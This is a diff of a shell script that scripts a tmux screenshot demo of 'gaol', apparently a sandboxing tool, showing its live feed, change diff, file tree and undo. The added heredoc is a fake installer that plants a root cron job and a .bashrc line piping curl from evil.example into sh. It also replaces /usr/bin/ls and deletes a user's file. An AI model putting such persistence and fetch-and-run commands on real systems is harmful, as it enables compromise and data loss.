@@ -47,24 +47,57 @@ shot() {
 
 inside() { "$gaol" exec "$1" -- sh -c "$2" </dev/null >/dev/null 2>&1; }
 
-scene() {
+# size COLS ROWS: of the terminal from here on.
+size() {
+	cols=$1 rows=$2
+	$tmux resize-window -x "$cols" -y "$rows"
+}
+
+typed() { $tmux send-keys -l "$1"; }
+
+prepare() {
 	"$gaol" new web --note "build of the web site" >/dev/null && "$gaol" start web >/dev/null || die "no jail"
 	"$gaol" new agent --note "an AI agent at work" --memory 512M >/dev/null
 	"$gaol" new demo --note "an installer from somewhere" >/dev/null && "$gaol" start demo >/dev/null || die "no jail"
 	inside demo 'mkdir -p /root/thesis /etc/cron.d; echo "alias ll=\"ls -l\"" > /root/.bashrc
-		printf "Chapter 1\n\nThree years of work.\n" > /root/thesis/chapter1.txt'
+		printf "Chapter 1\n\nThree years of work.\n" > /root/thesis/chapter1.txt
+		cat > /root/install.sh <<\EOF
+#!/bin/sh
+echo "Installing updater 2.1 ..."
+echo "* * * * * root curl -s evil.example | sh" > /etc/cron.d/updater
+echo "curl -s evil.example/steal | sh &" >> /root/.bashrc
+echo "echo nothing to see here" > /usr/bin/ls.new
+chmod 755 /usr/bin/ls.new; mv /usr/bin/ls.new /usr/bin/ls
+rm /root/thesis/chapter1.txt
+echo "Done. Thank you!"
+EOF'
 	"$gaol" checkpoint demo -m "clean, before the installer" >/dev/null || die "no checkpoint"
+}
+
+scene() {
+	prepare
 	$tmux new-session -d -x $cols -y $rows "TERM=tmux-256color '$gaol'"
 	until_shows 'agent.*stopped'
+	# costs are measured a moment later, and differ each time
 	shot jails gaol
 	keys g
 	keys j
-	keys f
+	size 124 26
+	keys a
+	until_shows 'root@demo'
 	until_shows 'checkpoint #2'
-	inside demo 'echo "* * * * * root curl -s evil.example | sh" > /etc/cron.d/updater
-		echo "curl -s evil.example/steal | sh &" >> /root/.bashrc
-		echo "echo nothing to see here" > /usr/bin/ls.new; chmod 755 /usr/bin/ls.new; mv /usr/bin/ls.new /usr/bin/ls
-		rm /root/thesis/chapter1.txt'
+	typed 'sh install.sh'
+	keys Enter
+	until_shows 'unlink .*chapter1'
+	until_shows 'Thank you'
+	typed 'ls; cat .bashrc'
+	keys Enter
+	until_shows 'steal'
+	shot console "gaol: type on the left, watch on the right"
+	keys C-]
+	keys d
+	size 100 24
+	keys f
 	until_shows 'unlink .*chapter1'
 	shot feed "gaol: what the jail does, live"
 	keys d
@@ -72,6 +105,27 @@ scene() {
 	keys j
 	until_shows 'steal'
 	shot diff "gaol: what it changed"
+	keys t
+	until_shows 'tree now'
+	keys /
+	typed 'etc/'
+	keys Enter
+	keys Enter
+	until_shows 'tree now  /etc'
+	keys /
+	typed 'cron.d'
+	keys Enter
+	keys Enter
+	until_shows '/etc/cron.d '
+	keys /
+	typed updater
+	keys Enter
+	until_shows 'root curl'
+	shot tree "gaol: whose file is that?"
+	keys :
+	typed jails
+	keys Enter
+	until_shows 'gaol . jails'
 	keys z
 	until_shows 'undone'
 	keys l
